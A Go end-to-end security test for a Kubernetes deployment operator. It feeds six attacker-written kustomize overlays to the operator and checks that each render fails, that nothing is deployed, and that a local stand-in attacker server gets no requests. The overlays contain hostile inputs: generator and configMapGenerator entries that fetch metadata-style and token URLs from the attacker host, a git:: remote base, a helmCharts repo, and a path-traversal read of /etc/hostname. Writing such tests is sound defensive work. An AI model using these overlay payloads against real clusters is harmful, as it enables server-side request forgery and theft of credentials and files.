//go:build e2e

package catalyst_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	catalystv1alpha1 "github.com/slipway-dev/slipway/api/catalyst/v1alpha1"
	"github.com/slipway-dev/slipway/internal/gitsource/gittest"
)

// TestSecurity_AttackerKustomizationsFetchNothing deploys one attacker's overlay per
// environment, each naming a server of the attacker (or a file outside the repository) where
// kustomize would have fetched or read it for the operator: an inline generator configuration, a
// generator directory, a transformer plugin configuration with a path out of the repository, a
// configMapGenerator file, a git:: remote base and a helmCharts entry. Each environment fails
// with RenderFailed naming the file and the field, in DeploymentReady and a Warning Event,
// nothing is applied, and the attacker's server gets no request.
func TestSecurity_AttackerKustomizationsFetchNothing(t *testing.T) {
	var requests atomic.Int64
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		requests.Add(1)
		_, _ = w.Write([]byte("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: fetched}\n"))
	}))
	defer attacker.Close()
	u := attacker.URL

	f := newFixture(t)
	// The Project's path exists at the branch's head before any attack.
	f.commit("an overlay", gittest.Merge(gittest.Kustomization("deploy/kustomize"),
		gittest.Files{"deploy/atk/kustomization.yaml": []byte("resources: [../kustomize/base]\n")}))
	p := f.project(withDeployment(catalystv1alpha1.DeploymentTypeKustomize, "deploy/atk"))
	p.Spec.Registry = nil // nothing to build: nothing of the commit is deployed
	f.create(p)
	f.start()
	f.waitProjectReady(p)

	const base = "resources: [../kustomize/base]\n"
	attacks := []struct {
		name  string
		files gittest.Files
		named []string
	}{
		{"inline-generator", gittest.Files{"kustomization.yaml": []byte(base + "generators:\n- |\n  apiVersion: builtin\n  kind: ConfigMapGenerator\n  metadata: {name: stolen}\n  files: [" + u + "/latest/meta-data]\n")},
			[]string{"deploy/atk/kustomization.yaml: generators[0] (inline): ConfigMapGenerator stolen: files[0] names \"" + u + "/latest/meta-data\""}},
		{"generator-directory", gittest.Files{"kustomization.yaml": []byte(base + "generators: [gen]\n"),
			"gen/kustomization.yaml": []byte("resources: [stolen.yaml]\n"),
			"gen/stolen.yaml":        []byte("apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: stolen}\nenvs: [" + u + "/env]\n")},
			[]string{"deploy/atk/gen/stolen.yaml: ConfigMapGenerator stolen: envs[0] names \"" + u + "/env\""}},
		{"transformer-path-outside", gittest.Files{"kustomization.yaml": []byte(base + "transformers: [up.yaml]\n"),
			"up.yaml": []byte("apiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: up}\npath: ../../../../etc/hostname\n")},
			[]string{"deploy/atk/up.yaml: PatchTransformer up: path names \"../../../../etc/hostname\", outside the repository"}},
		{"configmap-files", gittest.Files{"kustomization.yaml": []byte(base + "configMapGenerator: [{name: stolen, files: [token=" + u + "/token]}]\n")},
			[]string{"configMapGenerator[0].files[0] names \"" + u + "/token\""}},
		{"remote-base", gittest.Files{"kustomization.yaml": []byte("resources: ['git::" + u + "/org/repo//base?ref=main']\n")},
			[]string{"resources[0] names \"git::" + u + "/org/repo//base?ref=main\""}},
		{"helm-charts", gittest.Files{"kustomization.yaml": []byte(base + "helmCharts: [{name: app, repo: " + u + "/charts, version: 1.0.0}]\n")},
			[]string{"helmCharts: kustomize does not inflate Helm charts"}},
	}
	// Every attack's files, so that a commit removes the other attacks' ones.
	all := gittest.Files{}
	for _, a := range attacks {
		for name := range a.files {
			all["deploy/atk/"+name] = gittest.Delete
		}
	}
	envs := make([]*catalystv1alpha1.Environment, len(attacks))
	for i, a := range attacks {
		files := gittest.Merge(gittest.Kustomization("deploy/kustomize"), all)
		for name, data := range a.files {
			files["deploy/atk/"+name] = data
		}
		sha := f.commit("attack: "+a.name, files)
		envs[i] = f.createEnvironment(f.environment(fmt.Sprintf("katk-%d", i), sha))
	}
	for i, a := range attacks {
		got := f.waitFailed(envs[i])
		c := condition(got.Status.Conditions, catalystv1alpha1.DeploymentReadyCondition)
		if c == nil || c.Reason != catalystv1alpha1.RenderFailedReason {
			t.Errorf("%s: DeploymentReady = %+v, want reason RenderFailed", a.name, c)
			continue
		}
		named := append(a.named, "a render reads the repository only")
		for _, want := range named {
			if !strings.Contains(c.Message, want) {
				t.Errorf("%s: message %q does not name %q", a.name, c.Message, want)
			}
		}
		f.checkNothingDeployed(a.name, got.Status.Namespace, "no-secret-here")
		f.checkWarningEvent(got, catalystv1alpha1.RenderFailedReason, named)
	}
	if n := requests.Load(); n != 0 {
		t.Errorf("the attacker's server got %d requests, want none", n)
	}
}
